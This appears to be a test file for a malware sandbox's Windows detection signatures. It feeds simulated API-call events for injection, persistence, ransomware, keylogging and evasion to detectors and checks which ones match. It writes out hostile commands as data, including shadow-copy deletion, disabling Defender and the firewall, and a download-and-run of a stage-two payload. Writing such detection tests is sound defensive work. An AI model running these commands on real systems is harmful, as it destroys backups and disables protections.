import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { EVENTS_FILE } from '../../src/report/events.js';
import { describe, it } from 'node:test';
import { EventLog, runScenario, signatureCases, type Scenario } from '../helpers/signatures.js';
import { SAMPLE_FOLDER, startWineProcess, type WineProcess } from '../helpers/windows-events.js';
import { windowsFixture } from '../helpers/windows-samples.js';

/** The sample's process under Wine (host pid 300), with its calls added by `calls`. */
function sample(calls: (process: WineProcess, log: EventLog) => void, name = 'sample.exe'): Scenario {
  const log = new EventLog();
  calls(startWineProcess(log, 300, `${SAMPLE_FOLDER}\\${name}`), log);
  return { events: log };
}

const HKCU = '0xffffffff80000001';
const HKLM = '0xffffffff80000002';
const RUN = 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run';
const CREATE_SUSPENDED = '0x4';
const GENERIC_WRITE = '0x40000000';
const GENERIC_READ = '0x80000000';
const CREATE_ALWAYS = '0x2';
const OPEN_EXISTING = '0x3';

/** A child started suspended: the call as relay shows it in a 64-bit process (stale upper bits in the flags). */
function startSuspended(process: WineProcess): WineProcess {
  const child = `${SAMPLE_FOLDER}\\sample.exe`;
  return process.call('CreateProcessW', { lpApplicationName: child, lpCommandLine: `"${child}" child`, bInheritHandles: '0x0', dwCreationFlags: `0x10000000${CREATE_SUSPENDED.slice(2)}` });
}

function remoteWriteAndThread(process: WineProcess, handle: string): WineProcess {
  return process
    .call('VirtualAllocEx', { hProcess: handle, lpAddress: '0x0', dwSize: 4096, flAllocationType: '0x3000', flProtect: '0x40' }, { ret: 0x10000 })
    .call('WriteProcessMemory', { hProcess: handle, lpBaseAddress: '0x10000', lpBuffer: '0x14000a010', nSize: 3, lpNumberOfBytesWritten: '0x21fd18' })
    .call('CreateRemoteThread', { hProcess: handle, lpThreadAttributes: '0x0', dwStackSize: 0, lpStartAddress: '0x10000', lpParameter: '0x0', dwCreationFlags: '0x0', lpThreadId: '0x0' }, { ret: 0x50 });
}

function createFile(process: WineProcess, path: string, access = GENERIC_WRITE, disposition = CREATE_ALWAYS): WineProcess {
  return process.call('CreateFileW', { lpFileName: path, dwDesiredAccess: access, dwShareMode: '0x0', lpSecurityAttributes: '0x0', dwCreationDisposition: disposition, dwFlagsAndAttributes: '0x80', hTemplateFile: '0x0' }, { ret: 0x44 });
}

const DOCUMENTS = ['report.docx', 'budget.xlsx', 'notes.txt', 'photo.jpg', 'contract.pdf', 'minutes.docx', 'plan.pptx', 'invoice.pdf', 'contacts.csv', 'holiday.png', 'taxes.xlsx', 'letter.odt'];
const FILES = `${SAMPLE_FOLDER}\\files`;

describe('Windows signatures on Windows API calls', () => {
  signatureCases([
    // Injection
    {
      signature: 'win_process_injection',
      title: 'memory allocated and written in a child started suspended, then a remote thread there',
      scenario: () => sample((process) => remoteWriteAndThread(startSuspended(process), '0x48')),
    },
    {
      signature: 'win_process_injection',
      title: 'process hollowing: a suspended child, its image unmapped, code written, its thread context set',
      scenario: () =>
        sample((process) =>
          startSuspended(process)
            .call('NtUnmapViewOfSection', { ProcessHandle: '0x48', BaseAddress: '0x400000' }, { ret: 0 })
            .call('VirtualAllocEx', { hProcess: '0x48', lpAddress: '0x400000', dwSize: 65536, flAllocationType: '0x3000', flProtect: '0x40' }, { ret: 0x400000 })
            .call('WriteProcessMemory', { hProcess: '0x48', lpBaseAddress: '0x400000', lpBuffer: '0x14000a010', nSize: 4096, lpNumberOfBytesWritten: '0x0' })
            .call('GetThreadContext', { hThread: '0x4c', lpContext: '0x21f000' })
            .call('SetThreadContext', { hThread: '0x4c', lpContext: '0x21f000' })
            .call('ResumeThread', { hThread: '0x4c' }),
        ),
    },
    {
      signature: 'win_process_injection',
      title: 'the same calls on its own process (GetCurrentProcess\'s pseudo-handle, 64- and 32-bit)',
      matches: false,
      scenario: () => sample((process) => remoteWriteAndThread(remoteWriteAndThread(process, '0xffffffffffffffff'), '0xffffffff')),
    },
    {
      signature: 'win_process_injection',
      title: 'a remote thread without anything written into that process',
      matches: false,
      scenario: () =>
        sample((process) => process.call('CreateRemoteThread', { hProcess: '0x48', lpThreadAttributes: '0x0', dwStackSize: 0, lpStartAddress: '0x7b000000', lpParameter: '0x0', dwCreationFlags: '0x0', lpThreadId: '0x0' })),
    },
    {
      signature: 'win_process_injection',
      title: 'a handle that processing resolved to the caller itself',
      matches: false,
      scenario: () =>
        sample((process) =>
          process
            .call('WriteProcessMemory', { hProcess: '0x48', process_identifier: 1200, lpBaseAddress: '0x10000', lpBuffer: '0x1', nSize: 3, lpNumberOfBytesWritten: '0x0' })
            .call('CreateRemoteThread', { hProcess: '0x48', process_identifier: 1200, lpThreadAttributes: '0x0', dwStackSize: 0, lpStartAddress: '0x10000', lpParameter: '0x0', dwCreationFlags: '0x0', lpThreadId: '0x0' }),
        ),
    },
    // Run key
    {
      signature: 'win_persistence_run_key',
      title: 'a value set under HKCU\\...\\Run (regkey resolved by processing)',
      scenario: () =>
        sample((process) =>
          process
            .call('RegCreateKeyExW', { hKey: HKCU, lpSubKey: 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', regkey: RUN }, { ret: 0 })
            .call('RegSetValueExW', { hKey: '0x5c', lpValueName: 'NestboxUpdater', Reserved: '0x0', dwType: '0x1', lpData: `${SAMPLE_FOLDER}\\sample.exe`, cbData: 96, regkey: `${RUN}\\NestboxUpdater` }, { ret: 0 }),
        ),
    },
    {
      signature: 'win_persistence_run_key',
      title: 'RegSetKeyValueW on HKLM\'s RunOnce, from the predefined key and subkey alone',
      scenario: () =>
        sample((process) =>
          process.call('RegSetKeyValueW', { hKey: HKLM, lpSubKey: 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce', lpValueName: 'x', dwType: '0x1', lpData: 'C:\\x.exe', cbData: 18 }, { ret: 0 }),
        ),
    },
    {
      signature: 'win_persistence_run_key',
      title: 'a Run value found only in the saved registry (summary regkey_written)',
      scenario: () => ({ ...sample(() => undefined), report: { behavior: behavior({ regkey_written: [`${RUN}\\Updater`] }) } }),
    },
    {
      signature: 'win_persistence_run_key',
      title: 'a shortcut written into the Startup folder',
      scenario: () => sample((process) => createFile(process, 'C:\\Users\\abecker\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\update.lnk')),
    },
    {
      signature: 'win_persistence_run_key',
      title: 'reading what starts at logon (the benign desktop tool)',
      matches: false,
      scenario: () =>
        sample((process) =>
          process
            .call('RegOpenKeyExA', { hKey: HKCU, lpSubKey: 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', ulOptions: '0x0', samDesired: '0x20019', phkResult: '0x21fd00', regkey: RUN }, { ret: 0 })
            .call('RegQueryValueExA', { hKey: '0x5c', lpValueName: 'OneDrive', lpReserved: '0x0', lpType: '0x0', lpData: '0x21fc00', lpcbData: '0x21fbfc', regkey: `${RUN}\\OneDrive` }, { ret: 2 }),
        ),
    },
    {
      signature: 'win_persistence_run_key',
      title: 'a value written under the program\'s own settings key',
      matches: false,
      scenario: () => sample((process) => process.call('RegSetValueExW', { hKey: '0x5c', lpValueName: 'LastRun', dwType: '0x4', lpData: '0x21fd00', cbData: 4, regkey: 'HKEY_CURRENT_USER\\Software\\Nestbox Tool\\LastRun' }, { ret: 0 })),
    },
    // Services
    {
      signature: 'win_persistence_service',
      title: 'CreateServiceW with its own program',
      scenario: () =>
        sample((process) =>
          process
            .call('OpenSCManagerW', { lpMachineName: '0x0', lpDatabaseName: '0x0', dwDesiredAccess: '0x2' }, { ret: 0x1000 })
            .call('CreateServiceW', { hSCManager: '0x1000', lpServiceName: 'NestboxUpdate', lpDisplayName: 'Nestbox Update Service', dwDesiredAccess: '0xf01ff', dwServiceType: '0x10', dwStartType: '0x3', dwErrorControl: '0x0', lpBinaryPathName: `${SAMPLE_FOLDER}\\sample.exe` }, { ret: 0x1004 }),
        ),
    },
    {
      signature: 'win_persistence_service',
      title: 'sc create run through cmd',
      scenario: () => sample((process) => process.call('CreateProcessW', { lpApplicationName: '0x0', lpCommandLine: 'cmd.exe /c sc create upd binPath= "C:\\ProgramData\\upd.exe" start= auto', dwCreationFlags: '0x0' })),
    },
    {
      signature: 'win_persistence_service',
      title: 'a sample calling itself svchost.exe, outside the system folder, writing a service\'s ImagePath',
      scenario: () =>
        sample(
          (process) => process.call('RegSetValueExW', { hKey: '0x70', lpValueName: 'ImagePath', dwType: '0x2', lpData: '%TEMP%\\svchost.exe', cbData: 40, regkey: 'HKEY_LOCAL_MACHINE\\System\\CurrentControlSet\\Services\\upd\\ImagePath' }, { ret: 0 }),
          'svchost.exe',
        ),
    },
    {
      signature: 'win_persistence_service',
      title: 'Wine\'s own services.exe writing the service key the service manager was asked for',
      matches: false,
      scenario: () => {
        const log = new EventLog();
        startWineProcess(log, 310, 'C:\\windows\\system32\\services.exe').call('RegSetValueExW', {
          hKey: '0x70',
          lpValueName: 'ImagePath',
          dwType: '0x2',
          lpData: `${SAMPLE_FOLDER}\\sample.exe`,
          cbData: 80,
          regkey: 'HKEY_LOCAL_MACHINE\\System\\CurrentControlSet\\Services\\NestboxUpdate\\ImagePath',
        }, { ret: 0 });
        return { events: log };
      },
    },
    {
      signature: 'win_persistence_service',
      title: 'sc query only asks',
      matches: false,
      scenario: () => sample((process) => process.call('CreateProcessW', { lpApplicationName: '0x0', lpCommandLine: 'sc.exe query WinDefend', dwCreationFlags: '0x0' })),
    },
    // Security tools
    {
      signature: 'win_disable_security_tools',
      title: 'Set-MpPreference switching real-time protection off',
      scenario: () => sample((process) => process.call('CreateProcessW', { lpApplicationName: '0x0', lpCommandLine: 'powershell.exe -NoProfile -Command "Set-MpPreference -DisableRealtimeMonitoring $true"', dwCreationFlags: '0x8000000' })),
    },
    {
      signature: 'win_disable_security_tools',
      title: 'Defender\'s DisableAntiSpyware policy set',
      scenario: () =>
        sample((process) => process.call('RegSetValueExW', { hKey: '0x60', lpValueName: 'DisableAntiSpyware', dwType: '0x4', lpData: '0x21fd00', cbData: 4, regkey: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware' }, { ret: 0 })),
    },
    {
      signature: 'win_disable_security_tools',
      title: 'sc stop WinDefend',
      scenario: () => sample((process) => process.call('WinExec', { lpCmdLine: 'sc stop WinDefend', uCmdShow: '0x0' }, { ret: 33 })),
    },
    {
      signature: 'win_disable_security_tools',
      title: 'WinDefend opened in the service manager and sent the stop control',
      scenario: () =>
        sample((process) =>
          process
            .call('OpenServiceW', { hSCManager: '0x1000', lpServiceName: 'WinDefend', dwDesiredAccess: '0x20' }, { ret: 0x1008 })
            .call('ControlService', { hService: '0x1008', dwControl: '0x1', lpServiceStatus: '0x21fd00' }, { ret: 0 }),
        ),
    },
    {
      signature: 'win_disable_security_tools',
      title: 'only asking WinDefend for its status',
      matches: false,
      scenario: () =>
        sample((process) =>
          process
            .call('OpenServiceW', { hSCManager: '0x1000', lpServiceName: 'WinDefend', dwDesiredAccess: '0x4' }, { ret: 0x1008 })
            .call('ControlService', { hService: '0x1008', dwControl: '0x4', lpServiceStatus: '0x21fd00' })
            .call('CreateProcessW', { lpApplicationName: '0x0', lpCommandLine: 'sc query WinDefend', dwCreationFlags: '0x0' }),
        ),
    },
    {
      signature: 'win_firewall_disabled',
      title: 'netsh advfirewall set allprofiles state off',
      scenario: () => sample((process) => process.call('CreateProcessA', { lpApplicationName: '0x0', lpCommandLine: 'netsh advfirewall set allprofiles state off', dwCreationFlags: '0x0' })),
    },
    {
      signature: 'win_firewall_disabled',
      title: 'netsh advfirewall show allprofiles',
      matches: false,
      scenario: () => sample((process) => process.call('CreateProcessA', { lpApplicationName: '0x0', lpCommandLine: 'netsh advfirewall show allprofiles', dwCreationFlags: '0x0' })),
    },
    // Download and execute
    {
      signature: 'win_download_and_execute',
      title: 'URLDownloadToFileW next to itself, then CreateProcessW of that file (the dropper sample)',
      scenario: () =>
        sample((process) =>
          process
            .call('URLDownloadToFileW', { pCaller: '0x0', szURL: 'http://updates.nestbox.test/download/update.exe', szFileName: `${SAMPLE_FOLDER}\\update.exe`, dwReserved: '0x0', lpfnCB: '0x0' }, { ret: 0, status: true })
            .call('CreateProcessW', { lpApplicationName: `${SAMPLE_FOLDER}\\UPDATE.EXE`, lpCommandLine: '0x0', dwCreationFlags: '0x0' }),
        ),
    },
    {
      signature: 'win_download_and_execute',
      title: 'WinINet read, a file written, and WinExec of it',
      scenario: () =>
        sample((process) =>
          createFile(
            process
              .call('InternetOpenA', { lpszAgent: 'Mozilla/5.0', dwAccessType: '0x0' }, { ret: 0xcc0004 })
              .call('InternetOpenUrlA', { hInternet: '0xcc0004', lpszUrl: 'http://payload.example/stage2.exe', lpszHeaders: '0x0', dwHeadersLength: 0, dwFlags: '0x0', dwContext: '0x0' }, { ret: 0xcc0008 })
              .call('InternetReadFile', { hFile: '0xcc0008', lpBuffer: '0x21e000', dwNumberOfBytesToRead: 4096, lpdwNumberOfBytesRead: '0x21dffc' }),
            'C:\\Users\\Public\\stage2.exe',
          ).call('WinExec', { lpCmdLine: 'C:\\Users\\Public\\stage2.exe /silent', uCmdShow: '0x0' }, { ret: 33 }),
        ),
    },
    {
      signature: 'win_download_and_execute',
      title: 'a download that is never run, and a program run that was never downloaded',
      matches: false,
      scenario: () =>
        sample((process) =>
          process
            .call('URLDownloadToFileW', { pCaller: '0x0', szURL: 'http://updates.nestbox.test/readme.txt', szFileName: `${SAMPLE_FOLDER}\\readme.txt`, dwReserved: '0x0', lpfnCB: '0x0' }, { ret: 0 })
            .call('CreateProcessW', { lpApplicationName: 'C:\\windows\\system32\\notepad.exe', lpCommandLine: '0x0', dwCreationFlags: '0x0' }),
        ),
    },
    // Shadow copies
    {
      signature: 'win_shadow_copy_deletion',
      title: 'cmd /c vssadmin delete shadows /all /quiet (the ransom sample)',
      scenario: () => sample((process) => process.call('CreateProcessW', { lpApplicationName: '0x0', lpCommandLine: 'cmd.exe /c vssadmin delete shadows /all /quiet', dwCreationFlags: '0x8000000' })),
    },
    {
      signature: 'win_shadow_copy_deletion',
      title: 'wmic shadowcopy delete, seen only in the summary\'s command lines',
      scenario: () => ({ ...sample(() => undefined), report: { behavior: behavior({ command_line: ['C:\\windows\\system32\\wbem\\wmic.exe shadowcopy delete /nointeractive'] }) } }),
    },
    {
      signature: 'win_shadow_copy_deletion',
      title: 'bcdedit switching boot recovery off',
      scenario: () => sample((process) => process.call('ShellExecuteW', { hwnd: '0x0', lpOperation: 'open', lpFile: 'bcdedit.exe', lpParameters: '/set {default} recoveryenabled No', lpDirectory: '0x0', nShowCmd: '0x0' }, { ret: 42 })),
    },
    {
      signature: 'win_shadow_copy_deletion',
      title: 'vssadmin list shadows only lists',
      matches: false,
      scenario: () => sample((process) => process.call('CreateProcessW', { lpApplicationName: '0x0', lpCommandLine: 'vssadmin list shadows', dwCreationFlags: '0x0' })),
    },
    // Ransomware
    {
      signature: 'win_ransomware_file_renames',
      title: 'a dozen documents rewritten and renamed to .locked (the ransom sample)',
      scenario: () =>
        sample((process) => {
          for (const name of DOCUMENTS) {
            const path = `${FILES}\\${name}`;
            createFile(createFile(process, path, GENERIC_READ, OPEN_EXISTING), path).call('MoveFileExW', { lpExistingFileName: path, lpNewFileName: `${path}.locked`, dwFlags: '0x1' });
          }
        }),
    },
    {
      signature: 'win_ransomware_file_renames',
      title: 'encrypted copies written with an extension and the originals deleted',
      scenario: () =>
        sample((process) => {
          for (const name of DOCUMENTS) createFile(process, `${FILES}\\${name}.crypt`).call('DeleteFileW', { lpFileName: `${FILES}\\${name}` });
        }),
    },
    {
      signature: 'win_ransomware_file_renames',
      title: 'five files renamed',
      matches: false,
      scenario: () =>
        sample((process) => {
          for (const name of DOCUMENTS.slice(0, 5)) process.call('MoveFileExW', { lpExistingFileName: `${FILES}\\${name}`, lpNewFileName: `${FILES}\\${name}.locked`, dwFlags: '0x1' });
        }),
    },
    {
      signature: 'win_ransomware_file_renames',
      title: 'a dozen temporary files moved into place under their final names',
      matches: false,
      scenario: () =>
        sample((process) => {
          for (const name of DOCUMENTS) process.call('MoveFileExW', { lpExistingFileName: `${FILES}\\${name}.tmp`, lpNewFileName: `${FILES}\\${name}`, dwFlags: '0x1' });
        }),
    },
    // Keylogging
    {
      signature: 'win_keylogger',
      title: 'a low-level keyboard hook',
      scenario: () => sample((process) => process.call('SetWindowsHookExW', { idHook: '0xd', lpfn: '0x140001500', hmod: '0x140000000', dwThreadId: '0x0' }, { ret: 0x20050 })),
    },
    {
      signature: 'win_keylogger',
      title: 'GetAsyncKeyState asked for every key in a loop',
      scenario: () =>
        sample((process) => {
          for (let key = 8; key < 256; key++) process.call('GetAsyncKeyState', { vKey: `0x${key.toString(16)}` }, { ret: 0, repeated: 9 });
        }),
    },
    {
      signature: 'win_keylogger',
      title: 'Shift checked for a hotkey many times, a mouse hook, a keyboard hook for its own thread',
      matches: false,
      scenario: () =>
        sample((process) =>
          process
            .call('GetAsyncKeyState', { vKey: '0x10' }, { ret: 0, repeated: 200 })
            .call('GetKeyState', { nVirtKey: '0x11' }, { ret: 0 })
            .call('SetWindowsHookExW', { idHook: '0xe', lpfn: '0x140001500', hmod: '0x140000000', dwThreadId: '0x0' }, { ret: 0x20050 })
            .call('SetWindowsHookExW', { idHook: '0x2', lpfn: '0x140001500', hmod: '0x0', dwThreadId: '0x10c' }, { ret: 0x20054 }),
        ),
    },
    // Anti-debug
    {
      signature: 'win_antidebug',
      title: 'CheckRemoteDebuggerPresent after IsDebuggerPresent (the evasion sample)',
      scenario: () => sample((process) => process.call('IsDebuggerPresent', {}, { ret: 0 }).call('CheckRemoteDebuggerPresent', { hProcess: '0xffffffffffffffff', pbDebuggerPresent: '0x21fe3c' })),
    },
    {
      signature: 'win_antidebug',
      title: 'NtQueryInformationProcess for the debug port',
      scenario: () => sample((process) => process.call('NtQueryInformationProcess', { ProcessHandle: '0xffffffffffffffff', ProcessInformationClass: '0x7', ProcessInformation: '0x21fe30', ProcessInformationLength: 8, ReturnLength: '0x0' }, { ret: 0 })),
    },
    {
      signature: 'win_antidebug',
      title: 'IsDebuggerPresent alone, as runtimes ask it, and the basic process information',
      matches: false,
      scenario: () =>
        sample((process) =>
          process
            .call('IsDebuggerPresent', {}, { ret: 0 })
            .call('NtQueryInformationProcess', { ProcessHandle: '0xffffffffffffffff', ProcessInformationClass: '0x0', ProcessInformation: '0x21fe30', ProcessInformationLength: 48, ReturnLength: '0x0' }, { ret: 0 }),
        ),
    },
    // Anti-VM
    {
      signature: 'win_antivm',
      title: 'VirtualBox\'s guest additions key (the evasion sample: predefined key and subkey)',
      scenario: () =>
        sample((process) => process.call('RegOpenKeyExW', { hKey: HKLM, lpSubKey: 'SOFTWARE\\Oracle\\VirtualBox Guest Additions', ulOptions: '0x0', samDesired: '0x20019', phkResult: '0x21fd00' }, { ret: 2 })),
    },
    {
      signature: 'win_antivm',
      title: 'VirtualBox\'s mouse driver file and tray window',
      scenario: () =>
        sample((process) =>
          process
            .call('GetFileAttributesW', { lpFileName: 'C:\\windows\\system32\\drivers\\VBoxMouse.sys' }, { ret: -1, status: false })
            .call('FindWindowW', { lpClassName: 'VBoxTrayToolWndClass', lpWindowName: '0x0' }, { ret: 0 }),
        ),
    },
    {
      signature: 'win_antivm',
      title: 'the disk\'s vendor string read from the SCSI device map',
      scenario: () =>
        sample((process) =>
          process.call('RegQueryValueExA', { hKey: '0x60', lpValueName: 'Identifier', lpReserved: '0x0', lpType: '0x0', lpData: '0x21fc00', lpcbData: '0x21fbfc', regkey: 'HKEY_LOCAL_MACHINE\\HARDWARE\\DEVICEMAP\\Scsi\\Scsi Port 0\\Scsi Bus 0\\Target Id 0\\Logical Unit Id 0\\Identifier' }, { ret: 0 }),
        ),
    },
    {
      signature: 'win_antivm',
      title: 'the adapters listed and a MAC address compared with VirtualBox\'s prefix',
      scenario: () => sample((process) => process.call('GetAdaptersInfo', { AdapterInfo: '0x21f000', SizePointer: '0x21effc' }, { ret: 0 }).call('lstrcmpiA', { lpString1: '08:00:27', lpString2: '52:54:00' }, { ret: 1 })),
    },
    {
      signature: 'win_antivm',
      title: 'the adapters listed, and the Windows version key read',
      matches: false,
      scenario: () =>
        sample((process) =>
          process
            .call('GetAdaptersInfo', { AdapterInfo: '0x21f000', SizePointer: '0x21effc' }, { ret: 0 })
            .call('RegOpenKeyExW', { hKey: HKLM, lpSubKey: 'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion', ulOptions: '0x0', samDesired: '0x20019', phkResult: '0x21fd00' }, { ret: 0 }),
        ),
    },
    // Wine
    {
      signature: 'win_wine_detection',
      title: 'GetProcAddress(ntdll, "wine_get_version") (the evasion sample)',
      scenario: () =>
        sample((process) =>
          process.call('GetModuleHandleW', { lpModuleName: 'ntdll.dll' }, { ret: 0x7bc00000 }).call('GetProcAddress', { hModule: '0x7bc00000', lpProcName: 'wine_get_version' }, { ret: 0x7bc4f2a0 }),
        ),
    },
    {
      signature: 'win_wine_detection',
      title: 'HKCU\\Software\\Wine opened',
      scenario: () => sample((process) => process.call('RegOpenKeyExW', { hKey: HKCU, lpSubKey: 'Software\\Wine', ulOptions: '0x0', samDesired: '0x20019', phkResult: '0x21fd00', regkey: 'HKEY_CURRENT_USER\\Software\\Wine' }, { ret: 0 })),
    },
    {
      signature: 'win_wine_detection',
      title: 'Wine\'s settings subkeys, the branch created as user32 does, an ordinary export',
      matches: false,
      scenario: () =>
        sample((process) =>
          process
            .call('RegCreateKeyW', { hKey: HKCU, lpSubKey: 'Software\\Wine', phkResult: '0x21fd00' }, { ret: 0 })
            .call('RegOpenKeyExW', { hKey: HKCU, lpSubKey: 'Software\\Wine\\X11 Driver', ulOptions: '0x0', samDesired: '0x20019', phkResult: '0x21fd00' }, { ret: 2 })
            .call('GetProcAddress', { hModule: '0x7bc00000', lpProcName: 'NtQueryInformationProcess' }, { ret: 0x7bc40000 }),
        ),
    },
    {
      signature: 'win_wine_detection',
      title: 'Wine\'s builtin cmd.exe, started by the sample, looking up Wine\'s internal debug exports',
      matches: false,
      scenario: () => {
        const log = new EventLog();
        startWineProcess(log, 330, 'C:\\windows\\system32\\cmd.exe', { ppid: 300 }).call('GetProcAddress', { hModule: '0x170000000', lpProcName: '__wine_dbg_strdup' }, { ret: 0x17005d6d0 });
        return { events: log };
      },
    },
    {
      signature: 'win_wine_detection',
      title: 'Wine\'s own explorer.exe asking for wine_get_version',
      matches: false,
      scenario: () => {
        const log = new EventLog();
        startWineProcess(log, 320, 'C:\\windows\\system32\\explorer.exe').call('GetProcAddress', { hModule: '0x7bc00000', lpProcName: 'wine_get_version' }, { ret: 0x7bc4f2a0 });
        return { events: log };
      },
    },
  ]);
});

describe('Windows signatures on benign programs under Wine', () => {
  it('find nothing suspicious in the corpus\'s desktop tool (IsDebuggerPresent, Shift, the Run key read, its own memory)', async () => {
    const { matches } = await runScenario(
      sample((process) =>
        process
          .call('IsDebuggerPresent', {}, { ret: 0 })
          .call('GetAsyncKeyState', { vKey: '0x10' }, { ret: 0 })
          .call('RegOpenKeyExA', { hKey: HKCU, lpSubKey: 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', ulOptions: '0x0', samDesired: '0x20019', phkResult: '0x21fd00', regkey: RUN }, { ret: 0 })
          .call('RegQueryValueExA', { hKey: '0x5c', lpValueName: 'OneDrive', lpReserved: '0x0', lpType: '0x0', lpData: '0x21fc00', lpcbData: '0x21fbfc', regkey: `${RUN}\\OneDrive` }, { ret: 2 })
          .call('OpenProcess', { dwDesiredAccess: '0x1000', bInheritHandle: '0x0', dwProcessId: 1200 }, { ret: 0x48 })
          .call('VirtualQueryEx', { hProcess: '0x48', lpAddress: '0x140001450', lpBuffer: '0x21fd00', dwLength: 48 }, { ret: 48 }),
        'pe-desktop-tool.exe',
      ),
    );
    assert.deepEqual(matches.filter((match) => match.severity >= 2).map((match) => match.name), []);
  });

  it('find nothing in what Wine\'s own programs do while a sample starts (services, devices, explorer)', async () => {
    const log = new EventLog();
    const services = startWineProcess(log, 310, 'C:\\windows\\system32\\services.exe');
    for (const program of ['winedevice.exe', 'plugplay.exe', 'svchost.exe -k LocalServiceNetworkRestricted']) {
      services.call('CreateProcessW', { lpApplicationName: '0x0', lpCommandLine: `C:\\windows\\system32\\${program}`, dwCreationFlags: '0x100000408' });
    }
    services.call('RegSetValueExW', { hKey: '0x70', lpValueName: 'ImagePath', dwType: '0x2', lpData: 'C:\\windows\\system32\\winedevice.exe', cbData: 80, regkey: 'HKEY_LOCAL_MACHINE\\System\\CurrentControlSet\\Services\\WineBus\\ImagePath' }, { ret: 0 });
    startWineProcess(log, 311, 'C:\\windows\\system32\\explorer.exe')
      .call('RegOpenKeyExW', { hKey: HKCU, lpSubKey: 'Software\\Wine', ulOptions: '0x0', samDesired: '0x20019', phkResult: '0x21fd00' }, { ret: 0 })
      .call('SetWindowsHookExW', { idHook: '0xd', lpfn: '0x1', hmod: '0x0', dwThreadId: '0x0' }, { ret: 0x20050 });
    startWineProcess(log, 300, `${SAMPLE_FOLDER}\\pe-hello.exe`).call('GetModuleHandleW', { lpModuleName: '0x0' }, { ret: 0x140000000 });
    const { names } = await runScenario({ events: log });
    assert.deepEqual(names.filter((name) => name.startsWith('win_')), []);
  });
});

/** A behaviour section with only these summary entries. */
function behavior(summary: Record<string, string[]>) {
  return { processes: [], processtree: [], generic: [], summary, anomaly: [], apistats: {} };
}

/**
 * The samples' real calls: test/fixtures/windows/relay-events/<sample>.jsonl are the `win.call` events of the
 * 64-bit samples (test/fixtures/windows, and the benign PE controls of test/corpus) run under Debian's Wine 8.0 with the relay settings of
 * src/report/windows-apis.ts (RelayInclude/RelayFromExclude) and `+relay,+reg,+process`, decoded by
 * processing's relay decoder (wine-calls, 27 Nov 2026): Wine's argument text as it is (stale upper bits in
 * 32-bit arguments, `0x0000...` padding), host ids made up, the run folder shown as the machine's Temp.
 * The dropper fetched through a loopback proxy that answered as the fake internet does for `.exe` (its tiny
 * ELF, which Wine's CreateProcessW runs as a Unix program); the GUI sample ran with Wine's null display driver.
 */
describe('Windows signatures on the samples\' calls as Wine relayed them', () => {
  const expected: Record<string, string[]> = {
    inject: ['win_process_injection'],
    persistence: ['win_persistence_run_key', 'win_persistence_service'],
    ransom: ['win_ransomware_file_renames', 'win_shadow_copy_deletion'],
    'evade-wine': ['win_antidebug', 'win_antivm', 'win_wine_detection'],
    mutex: [],
    'payload-dll': [],
    dropper: ['win_download_and_execute'],
    gui: [],
    'pe-hello': [],
    'pe-desktop-tool': [],
  };
  for (const [sampleName, signatures] of Object.entries(expected)) {
    it(`${sampleName}: ${signatures.join(', ') || 'nothing suspicious'}`, async () => {
      const { matches } = await runScenario({ files: { [EVENTS_FILE]: readFileSync(windowsFixture(`relay-events/${sampleName}.jsonl`)) } });
      assert.deepEqual(matches.filter((match) => match.severity >= 2).map((match) => match.name).sort(), signatures);
    });
  }
});
